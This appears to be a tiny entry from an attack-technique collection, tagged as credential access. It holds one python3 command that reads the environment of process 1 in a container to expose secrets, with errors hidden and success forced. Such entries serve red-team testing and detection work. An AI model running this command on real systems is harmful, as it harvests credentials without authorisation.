# tactic: credential-access
# read the environment of process 1, where a container's secrets are passed
python3 -c 'print(open("/proc/1/environ", "rb").read().split(b"\0")[:3])' 2>/dev/null; true
